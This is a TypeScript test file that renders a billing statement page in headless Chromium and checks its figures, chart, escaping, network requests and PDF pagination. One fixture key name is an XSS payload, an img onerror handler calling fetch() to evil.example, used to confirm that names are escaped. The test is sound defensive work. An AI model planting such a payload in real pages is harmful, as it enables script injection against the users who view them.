/**
 * The statement's HTML page opened in a real browser — Debian's headless Chromium driven by playwright-core,
 * as the validate report's test does — and printed to PDF with Chromium's own print-to-PDF: the page's
 * figures, the chart's bars, escaped names, no console error, no request but the file itself, and one team per
 * printed page on A4 and on Letter. Without /usr/bin/chromium it is skipped, unless
 * SWITCHYARD_REQUIRE_CHROMIUM=1 (as .ci/run sets), in which case it fails.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildStatement, type Statement } from '../../functions/core/billing/statement.ts';
import { renderStatementHtml } from '../../functions/core/billing/statement-html.ts';
import type { UsageAggregate } from '../../functions/core/usage/types.ts';
import { HAVE_CHROMIUM, launchChromium, type Seen, watch, whenChromiumMissing } from '../support/chromium.ts';

const INJECTION = '<img src=x onerror="fetch(`https://evil.example`)">';

const agg = (day: string, keyId: string, provider: string, costUsd: number): UsageAggregate => ({
  day,
  keyId,
  provider,
  model: 'gpt-4o-mini',
  requests: 4,
  errors: 0,
  inputTokens: 400,
  outputTokens: 200,
  cachedInputTokens: 0,
  reasoningTokens: 0,
  costUsd,
  unpricedRequests: 0,
  estimatedRequests: 0,
  priceVersions: ['p-2026-11'],
});

function fixture(): Statement {
  return buildStatement({
    month: '2026-11',
    issuer: 'Acme & Co',
    aggregates: [
      agg('2026-11-02', 'key_a', 'openai', 1.5),
      agg('2026-11-09', 'key_a', 'openai', 2.25),
      agg('2026-11-09', 'key_b', 'relay', 0.75),
      agg('2026-11-20', 'key_c', 'openai', 0.5),
    ],
    keys: [
      { id: 'key_a', name: 'checkout', hash: 'h', createdAt: '2026-10-01T00:00:00Z', team: 'payments' },
      { id: 'key_b', name: INJECTION, hash: 'h', createdAt: '2026-10-01T00:00:00Z', team: 'growth' },
      { id: 'key_c', name: 'script', hash: 'h', createdAt: '2026-10-01T00:00:00Z' },
    ],
    reports: [],
  });
}

whenChromiumMissing('statement page in headless Chromium');

describe.runIf(HAVE_CHROMIUM)('statement page in headless Chromium', () => {
  let dir: string;
  let browser: Browser;
  let page: Page;
  const s = fixture();
  let seen: Seen;
  let fileUrl: string;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'switchyard-statement-'));
    const file = join(dir, 'statement.html');
    await writeFile(file, renderStatementHtml(s));
    fileUrl = pathToFileURL(file).href;
    browser = await launchChromium();
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    seen = watch(context, page);
    await page.goto(fileUrl, { waitUntil: 'load' });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  });

  it('shows the number, issuer, period, total and one section per team, names escaped', async () => {
    expect(await page.title()).toBe(`Statement ${s.number}`);
    const header = await page.locator('header').textContent();
    expect(header).toContain('Issued by Acme & Co');
    expect(header).toContain('2026-11-01 to 2026-11-30');
    expect(await page.locator('#total-cost').textContent()).toBe('$5.0000');
    expect(await page.locator('section.team h2').allInnerTexts()).toEqual([
      'Team growth',
      'Team payments',
      'Keys without a team',
    ]);
    // The hostile key name is text on the page, not an element.
    expect(await page.locator('section.team img').count()).toBe(0);
    expect(await page.locator('section.team').first().textContent()).toContain(INJECTION);
  });

  it('draws a bar per day of the month, sized by the spend', async () => {
    const bars = page.locator('svg rect.bar');
    expect(await bars.count()).toBe(30);
    const heights = await bars.evaluateAll((els) => els.map((e) => Number(e.getAttribute('height'))));
    expect(heights.filter((x) => x > 0)).toHaveLength(3);
    // 9 Nov ($3.00) is the tallest bar.
    expect(heights.indexOf(Math.max(...heights))).toBe(8);
  });

  it('loads nothing but itself and logs no console error', () => {
    expect(seen.errors).toEqual([]);
    expect(seen.requests).toEqual([fileUrl]);
  });

  for (const format of ['A4', 'Letter'] as const) {
    it(`prints to PDF on ${format}: the summary page, then one page per team`, async () => {
      const pdf = await page.pdf({ format, printBackground: true });
      const text = pdf.toString('latin1');
      expect(text.startsWith('%PDF-')).toBe(true);
      const pages = text.match(/\/Type\s*\/Page(?!s)/g)?.length ?? 0;
      expect(pages).toBe(1 + s.teams.length);
      await writeFile(join(dir, `statement-${format}.pdf`), pdf);
    });
  }
});
